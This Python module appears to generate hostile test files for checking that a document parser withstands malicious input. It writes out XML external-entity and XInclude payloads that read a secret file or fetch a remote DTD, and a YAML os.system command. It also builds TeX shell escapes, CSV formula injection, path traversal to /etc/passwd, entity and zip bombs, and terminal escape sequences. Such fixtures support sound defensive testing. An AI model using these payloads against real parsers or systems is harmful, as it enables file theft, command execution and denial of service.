"""Hostile files of the formats that are text: markup, light markup, mail, tables, JSON."""

from __future__ import annotations

import base64
import gzip
import io
import json
import tarfile
from typing import TYPE_CHECKING

from bench.hostile.basics import LAUGHS, article, deep_html, docx, docx_bomb, entity_bomb, paragraphs

if TYPE_CHECKING:
    from bench.hostile.basics import Around, Make

ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x00\x08\x7f\u202egnp.exe\u2066\ufeff"


def _html(at: Around, body: str, head: str = "") -> bytes:
    return f"<!doctype html><html><head><title>t</title>{head}</head><body><p>{at.word} stands here.</p>{body}</body></html>".encode()


def _article(at: Around, body: str, declared: str = "") -> bytes:
    return article(f"<sec><title>One</title><p>{at.word}</p></sec>{body}", declared)


def _text(at: Around, *more: str, between: str = "\n\n") -> bytes:
    return between.join([f"{at.word} stands here.", *more]).encode("utf-8", "surrogatepass")


def _mail(at: Around, headers: str, body: str) -> bytes:
    return f"From: a@example.org\r\nTo: b@example.org\r\nSubject: {at.word}\r\n{headers}\r\n{at.word} stands here.\r\n{body}".encode()


def _parts(at: Around, *parts: str) -> bytes:
    inner = "".join(f"--b\r\n{part}\r\n" for part in (f"Content-Type: text/plain\r\n\r\n{at.word}", *parts))
    return f"From: a@example.org\r\nSubject: s\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n{inner}--b--\r\n".encode()


def _nested_mail(word: str, depth: int) -> bytes:
    heads = "".join(f"Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n" for n in range(depth))
    return f"From: a@example.org\r\nSubject: {word}\r\nMIME-Version: 1.0\r\n{heads}Content-Type: text/plain\r\n\r\n{word}\r\n".encode()


def _notebook(at: Around, **changed: object) -> bytes:
    cells = [{"cell_type": "markdown", "metadata": {}, "source": [f"# Note\n\n{at.word}"]}]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells} | changed).encode()


def _docling(at: Around, **changed: object) -> bytes:
    text = {
        "self_ref": "#/texts/0",
        "parent": {"$ref": "#/body"},
        "children": [],
        "label": "text",
        "prov": [],
        "orig": at.word,
        "text": at.word,
    }
    body = {"self_ref": "#/body", "children": [{"$ref": "#/texts/0"}], "name": "_root_", "label": "unspecified"}
    return json.dumps(
        {"schema_name": "DoclingDocument", "version": "1.0.0", "name": "x", "body": body, "texts": [text]} | changed
    ).encode()


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as made:
        made.addfile(tarfile.TarInfo("../../../../tmp/outside"))
    return out.getvalue()


def _compound(directory: bytes) -> bytes:
    """An OLE container whose chains of sectors go round."""
    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    return bytes(head) + b"\0\0\0\0" * 128 + directory


WIDE = "|" + "a|" * 5000
PICTURE = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 3_000_000).decode()

# fmt: off
MARKUP: dict[str, Make] = {
    "deep.html": lambda at: deep_html(text=at.word),
    "deep-tables.html": lambda at: _html(at, "<table><tr><td>" * 3000 + "x"),
    "deep-lists.html": lambda at: _html(at, "<ul><li>x" * 5000),
    "misnested.html": lambda at: _html(at, "<b><i><a><font>" * 5000 + "</b></i>" * 5000),
    "span.html": lambda at: _html(at, '<table><tr><td rowspan="1000000000" colspan="1000000000">a</td><td>b</td></tr><tr><td>c</td></tr></table>'),
    "many-spans.html": lambda at: _html(at, "<table>" + '<tr><td rowspan="65534" colspan="1000">a</td></tr>' * 500 + "</table>"),
    "cells.html": lambda at: _html(at, "<table>" + ("<tr>" + "<td>a</td>" * 500 + "</tr>") * 500 + "</table>"),
    "attributes.html": lambda at: _html(at, "<p " + " ".join(f"a{n}=b" for n in range(200_000)) + ">x</p>"),
    "huge-attribute.html": lambda at: _html(at, f'<p title="{"x" * (20 << 20)}">x</p>'),
    "unclosed-comment.html": lambda at: _html(at, "<!-- " + "<!-- " * 200_000),
    "unclosed-script.html": lambda at: _html(at, "<script>" + "</scrip" * 200_000),
    "frames.html": lambda at: _html(at, f'<iframe src="{at.secret.as_uri()}"></iframe><object data="{at.secret.as_uri()}"></object><embed src="{at.address}/e">'),
    "pictures.html": lambda at: _html(at, f'<img src="{at.secret.as_uri()}"><img src="../../../../../../etc/passwd"><img src="{at.address}/p.png"><img src="//{at.address[7:]}/q.png">', f'<base href="{at.address}/"><link rel=stylesheet href="{at.address}/s.css">'),
    "refresh.html": lambda at: _html(at, "", f'<meta http-equiv=refresh content="0;url={at.address}/r">'),
    "utf7.html": lambda at: _html(at, "+ADw-script+AD4-", '<meta charset="utf-7">'),
    "unknown-charset.html": lambda at: _html(at, "x", '<meta charset="klingon-8859">'),
    "utf16-without-mark.html": lambda at: _html(at, "x").decode().encode("utf-16-le"),
    "letters.html": lambda at: _html(at, "x") + b"\xff\xfe\x80\x00\xc0\xaf" * 1000,
    "data-url.html": lambda at: _html(at, f'<img src="data:image/png;base64,{PICTURE}"><img src="data:,x"><img src="data:text/html;base64,!!!!">'),
    "references.html": lambda at: _html(at, "&amp;&#0;&#x110000;&#xD800;&unknown;" * 100_000),
    "notes-loop.html": lambda at: _html(at, '<p id="a"><sup><a href="#a">1</a></sup></p><p id="b"><a href="#c">1</a></p><p id="c"><a href="#b">1</a></p>'),
    "one-word.html": lambda at: _html(at, "<p>" + "x" * (20 << 20)),
    "headings.html": lambda at: _html(at, "".join(f"<h{n % 6 + 1}>t</h{n % 6 + 1}>" for n in range(100_000))),
    "svg.html": lambda at: _html(at, f'<svg><foreignObject><script>x</script><image href="{at.secret.as_uri()}"/></foreignObject></svg>' + "<svg><desc><math>" * 1000),
    "escapes.html": lambda at: _html(at, f"<h1>{ESCAPES}</h1><p>{ESCAPES}</p><script>alert(1)</script><p onclick=alert(1)>&lt;script&gt;</p>"),
    "laughs.nxml": lambda at: entity_bomb(),
    "quadratic.nxml": lambda at: _article(at, "<p>" + "&a;" * 50_000 + "</p>", f'<!ENTITY a "{"x" * 50_000}">'),
    "entity.nxml": lambda at: _article(at, "<p>Before &secret; after.</p>", f'<!ENTITY secret SYSTEM "{at.secret.as_uri()}">'),
    "parameter-entity.nxml": lambda at: _article(at, "<p>x</p>", f'<!ENTITY % a SYSTEM "{at.secret.as_uri()}"> %a; <!ENTITY % b SYSTEM "{at.address}/x.dtd"> %b;'),
    "outside-dtd.nxml": lambda at: _article(at, "<p>x</p>").replace(b"<article>", f'<!DOCTYPE article SYSTEM "{at.address}/x.dtd"><article>'.encode(), 1),
    "include.nxml": lambda at: _article(at, f'<p xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{at.secret.as_uri()}" parse="text"/></p>'),
    "deep.nxml": lambda at: _article(at, "<sec><title>t</title>" * 20_000 + "</sec>" * 20_000),
    "deep-in-bounds.nxml": lambda at: _article(at, "<sec><title>t</title>" * 200 + f"<p>{at.word}</p>" + "</sec>" * 200),
    "loop.nxml": lambda at: _article(at, '<fn id="a"><p><xref rid="a" ref-type="fn">1</xref></p></fn><sec id="s"><title><xref rid="s" ref-type="sec">s</xref></title></sec>'),
    "span.nxml": lambda at: _article(at, '<table-wrap><table><tr><td colspan="99999999" rowspan="99999999">a</td></tr></table></table-wrap>'),
    "references.nxml": lambda at: _article(at, "<p>" + '<xref rid="r1" ref-type="bibr">1</xref> ' * 100_000 + "</p>"),
    "encoding.nxml": lambda at: _article(at, "<p>x</p>").replace(b'version="1.0"', b'version="1.0" encoding="utf-32"', 1),
    "cut.nxml": lambda at: _article(at, "<p>x</p>" * 1000)[:-3000],
    "laughs.xml": lambda at: f'<?xml version="1.0"?><!DOCTYPE us-patent-grant [{LAUGHS}]><us-patent-grant><description><p>&l9;</p></description></us-patent-grant>'.encode(),
    "deep.xml": lambda at: b"<us-patent-grant>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</us-patent-grant>",
    "pictures.nxml": lambda at: _article(at, f'<fig id="f"><graphic xmlns:x="http://www.w3.org/1999/xlink" x:href="{at.secret.as_uri()}"/></fig><fig><graphic xmlns:x="http://www.w3.org/1999/xlink" x:href="../../../../../../../../etc/passwd"/></fig>'),
}

LIGHT: dict[str, Make] = {
    "quotes.md": lambda at: _text(at, ">" * 20_000 + " deep"),
    "lists.md": lambda at: _text(at, "".join(" " * n + "- x\n" for n in range(1500))),
    "brackets.md": lambda at: _text(at, "[" * 50_000, "![" * 50_000, "[a](" * 20_000),
    "emphasis.md": lambda at: _text(at, "*a_ " * 50_000, "**a *" * 30_000),
    "backticks.md": lambda at: _text(at, " ".join("`" * n for n in range(1, 2500))),
    "definitions.md": lambda at: _text(at, "\n".join(f"[a{n}]: b" for n in range(50_000)), "[a1] " * 50_000),
    "table.md": lambda at: _text(at, f"{WIDE}\n{'|' + '-|' * 5000}\n" + f"{WIDE}\n" * 40),
    "laughs.md": lambda at: b"---\na: &a [x,x,x,x,x,x,x,x,x]\n" + b"".join(b"%c: &%c [%s]\n" % (n + 1, n + 1, b",".join([b"*%c" % n] * 9)) for n in range(97, 107)) + b"---\n\n" + _text(at),
    "python.md": lambda at: b"---\ntitle: !!python/object/apply:os.system ['touch /tmp/owned']\n---\n\n" + _text(at),
    "front-matter.md": lambda at: b"---\ntitle: [[[[[[" + b"[" * 20_000 + b"\n---\n\n" + _text(at),
    "deep-front-matter.md": lambda at: b"---\na: " + b"{a: " * 3000 + b"}" * 3000 + b"\n---\n\n" + _text(at),
    "notes-loop.md": lambda at: _text(at, "x[^a]\n\n[^a]: y[^b]\n[^b]: z[^a]"),
    "pictures.md": lambda at: _text(at, f"![a]({at.secret.as_uri()}) ![b](../../../../etc/passwd) ![c]({at.address}/x.png)"),
    "tags.md": lambda at: _text(at, "<div>" * 10_000),
    "one-line.md": lambda at: _text(at, "x" * (30 << 20)),
    "headings.md": lambda at: _text(at, "\n".join("# t" for _ in range(100_000))),
    "levels.md": lambda at: _text(at, "\n\n".join("#" * (n % 6 + 1) + f" t{n}" for n in range(20_000))),
    "escapes.md": lambda at: _text(at, f"# {ESCAPES}", ESCAPES),
    "letters.md": lambda at: _text(at) + b"\n\n\xff\xfe\x00\xc0\xaf\xed\xa0\x80 mixed \xe9t\xe9",
    "utf16.md": lambda at: _text(at).decode().encode("utf-16"),
    "include.adoc": lambda at: _text(at, f"include::{at.secret}[]", "include::../../../../etc/passwd[]", f"image::{at.secret}[]"),
    "include-itself.adoc": lambda at: _text(at, "include::include-itself.adoc[]"),
    "attributes.adoc": lambda at: b":a: {b}{b}\n:b: {a}{a}\n\n" + _text(at, "{a}"),
    "laughs.adoc": lambda at: b":a0: ha\n" + b"".join(b":a%d: %s\n" % (n, b"{a%d}" % (n - 1) * 10) for n in range(1, 10)) + b"\n" + _text(at, "{a9}"),
    "lists.adoc": lambda at: _text(at, "\n".join("*" * n + " x" for n in range(1, 1500))),
    "columns.adoc": lambda at: _text(at, '[cols="1000000000*"]\n|===\n|a |b\n|==='),
    "blocks.adoc": lambda at: _text(at, "====\n" * 20_000),
    "include.rst": lambda at: _text(at, f".. include:: {at.secret}", f".. literalinclude:: {at.secret}", f".. raw:: html\n   :file: {at.secret}"),
    "table-of-file.rst": lambda at: _text(at, f".. csv-table::\n   :file: {at.secret}", f".. csv-table::\n   :url: {at.address}/t.csv", f".. image:: {at.secret.as_uri()}"),
    "include-itself.rst": lambda at: _text(at, ".. include:: include-itself.rst"),
    "substitutions.rst": lambda at: _text(at, "|a|", ".. |a| replace:: |b| |b|", ".. |b| replace:: |a| |a|"),
    "laughs.rst": lambda at: _text(at, "|a9|", ".. |a0| replace:: ha", *(f".. |a{n}| replace:: " + f"|a{n - 1}| " * 10 for n in range(1, 10))),
    "deep.rst": lambda at: _text(at, "".join(" " * n + "x\n\n" for n in range(600))),
    "titles.rst": lambda at: _text(at, *(f"t{n}\n{'=' * 900}" for n in range(3000))),
    "input.tex": lambda at: b"\\documentclass{article}\\begin{document}" + _text(at, f"\\input{{{at.secret}}}\\include{{{at.secret}}}\\verbatiminput{{{at.secret}}}\\includegraphics{{{at.secret}}}") + b"\\end{document}",
    "macros.tex": lambda at: b"\\documentclass{article}\\newcommand{\\a}{\\b\\b}\\newcommand{\\b}{\\a\\a}\\begin{document}" + _text(at, "\\a") + b"\\end{document}",
    "laughs.tex": lambda at: b"\\documentclass{article}\\newcommand{\\la}{ha}" + b"".join(b"\\newcommand{\\l%c}{%s}" % (n + 1, b"\\l%c" % n * 10) for n in range(97, 106)) + b"\\begin{document}" + _text(at, "\\lj") + b"\\end{document}",
    "itself.tex": lambda at: b"\\documentclass{article}\\def\\a{x\\a}\\begin{document}" + _text(at, "\\a") + b"\\end{document}",
    "braces.tex": lambda at: b"\\documentclass{article}\\begin{document}" + _text(at, "{" * 50_000 + "}" * 50_000) + b"\\end{document}",
    "environments.tex": lambda at: b"\\documentclass{article}\\begin{document}" + _text(at, "\\begin{itemize}\\item x" * 5000),
    "write.tex": lambda at: b"\\documentclass{article}\\begin{document}" + _text(at, "\\immediate\\write18{touch /tmp/owned}", "$" * 10_001) + b"\\end{document}",
}

OTHERS: dict[str, Make] = {
    "deep.ipynb": lambda at: b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "output.ipynb": lambda at: _notebook(at, more=[{"data": "x" * (30 << 20)}]),
    "number.ipynb": lambda at: _notebook(at).replace(b'"nbformat": 4', b'"nbformat": ' + b"4" * 10_000),
    "cells.ipynb": lambda at: _notebook(at, cells={"a": 1}),
    "sources.ipynb": lambda at: _notebook(at, cells=[{"cell_type": "markdown", "source": 7}, {"cell_type": 9}, None, {"cell_type": "code", "source": [], "outputs": [{"output_type": "x", "data": 3}]}]),
    "cut.ipynb": lambda at: _notebook(at)[:-20],
    "loop.json": lambda at: _docling(at, groups=[{"self_ref": "#/groups/0", "parent": {"$ref": "#/groups/0"}, "children": [{"$ref": "#/groups/0"}], "name": "g", "label": "list"}], body={"self_ref": "#/body", "children": [{"$ref": "#/groups/0"}, {"$ref": "#/body"}], "name": "_root_", "label": "unspecified"}),
    "nowhere.json": lambda at: _docling(at, body={"self_ref": "#/body", "children": [{"$ref": "#/texts/999999"}, {"$ref": "#/../x"}], "name": "_root_", "label": "unspecified"}),
    "version.json": lambda at: _docling(at, version="999.0.0"),
    "deep.json": lambda at: b'{"schema_name": "DoclingDocument", "body": ' + b'{"a":' * 100_000,
    "record.json": lambda at: json.dumps([{"id": "pub_h", "title": at.word, "downloadLinks": [{"id": "dl_h", "fileName": str(at.secret)}, {"id": "../../x", "fileName": "../../../../etc/passwd"}]}]).encode(),
    "deep-record.json": lambda at: b'[{"id": "pub_d", "title": "t", "downloadLinks": ' + b"[" * 100_000 + b"]" * 100_000 + b"}]",
    "columns.csv": lambda at: (f"{at.word}," + ",".join(map(str, range(100_000))) + "\n").encode() * 3,
    "field.csv": lambda at: f"a,b\n{at.word},{'x' * (30 << 20)}\n".encode(),
    "quote.csv": lambda at: f"{at.word},b\n".encode() + b'"never closed,\n' * 100_000,
    "rows.csv": lambda at: f"{at.word},b\n".encode() + b"1,2\n" * 500_000,
    "nul.csv": lambda at: f"{at.word},b\n".encode() + b"1,\x00\x00\n" * 100,
    "ragged.csv": lambda at: f"{at.word}\n".encode() + b"".join(b"," * (n % 3000) + b"\n" for n in range(3000)),
    "formula.csv": lambda at: f'{at.word},"=cmd|/c calc!A0",@SUM(1),"=HYPERLINK(""{at.address}"")"\n1,2,3,4\n'.encode(),
    "utf16.csv": lambda at: f"{at.word},b\n1,2\n".encode("utf-16"),
    "mixed.csv": lambda at: f"{at.word};é\n".encode("latin-1") + "œ;ö\n".encode() + b"\xff\xfe\n",
    "one-word.txt": lambda at: _text(at, "x" * (30 << 20)),
    "all-letters.txt": lambda at: _text(at, "".join(map(chr, range(0x3000)))),
    "escapes.txt": lambda at: _text(at, ESCAPES * 100),
    "accents.txt": lambda at: _text(at, "e" + "\u0301" * 200_000),
    "surrogates.txt": lambda at: _text(at, "\ud800\udc00 \udfff \ufffe\uffff \U0010ffff"),
    "letters.txt": lambda at: _text(at) + b"\n\n" + bytes(range(128, 256)) * 100,
    "utf32.txt": lambda at: _text(at).decode().encode("utf-32"),
    "feeds.txt": lambda at: _text(at, "\f" * 300_000, "end"),
    "lines.txt": lambda at: _text(at, "\n".join("a" for _ in range(400_000))),
    "paragraphs.txt": lambda at: _text(at, *("a" for _ in range(100_000))),
    "ligature.txt": lambda at: _text(at, "\ufdfa" * 100_000),
    "nothing.txt": lambda at: b" \n\t\x00" * 1000,
    "no-bytes.txt": lambda at: b"",
    "nested.eml": lambda at: _nested_mail(at.word, 3000),
    "same-boundary.eml": lambda at: _parts(at, "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nx"),
    "messages.eml": lambda at: b"From: a@example.org\r\nSubject: s\r\n" + b"Content-Type: message/rfc822\r\n\r\n" * 2000 + _text(at),
    "header.eml": lambda at: _mail(at, f"X-Long: {'y' * (10 << 20)}\r\n", "x"),
    "headers.eml": lambda at: _mail(at, "".join(f"X-{n}: y\r\n" for n in range(100_000)), "x"),
    "encoded.eml": lambda at: _mail(at, "X-Subject: " + "=?utf-8?b?" * 20_000 + "\r\nDate: Thu, 99 Foo 99999 99:99:99 +9999\r\n", "x"),
    "charset.eml": lambda at: _mail(at, 'MIME-Version: 1.0\r\nContent-Type: text/plain; charset="klingon\x1b"\r\n', "x"),
    "base64.eml": lambda at: _parts(at, "Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"../../../../tmp/owned\"\r\n\r\n!!!!not base64!!!!"),
    "attachments.eml": lambda at: _parts(at, *(f'Content-Disposition: attachment; filename="{n}.txt"\r\n\r\nx' for n in range(10_000))),
    "bomb.eml": lambda at: _parts(at, 'Content-Type: application/zip\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="b.docx"\r\n\r\n' + base64.b64encode(docx_bomb(60)).decode()),
    "frames.eml": lambda at: _parts(at, f'Content-Type: text/html\r\n\r\n<iframe src="{at.secret.as_uri()}"></iframe><img src="{at.address}/x.png">'),
    # of another format than the name says, or of none
    "is-a-docx.pdf": lambda at: docx(paragraphs(at.word)),
    "is-a-page.docx": lambda at: _html(at, "x"),
    "is-a-table.xlsx": lambda at: f"{at.word},b\n1,2\n".encode(),
    "gzip.csv": lambda at: gzip.compress(b"a,b\n" * 20_000_000),
    "tar.txt": lambda at: _tar(),
    "rtf.docx": lambda at: b"{\\rtf1 " + b"{" * 100_000 + b"}",
    "compound.docx": lambda at: _compound("WordDocument".encode("utf-16-le") + b"\0" * 4000),
    "compound-loop.pptx": lambda at: _compound(b"\0" * 10_000),
    "program.txt": lambda at: b"\x7fELF" + bytes(range(256)) * 500,
    "publication.json": lambda at: b'{"a": NaN, "b": Infinity, "c": 1e99999, "d": "\\ud800"}',
}
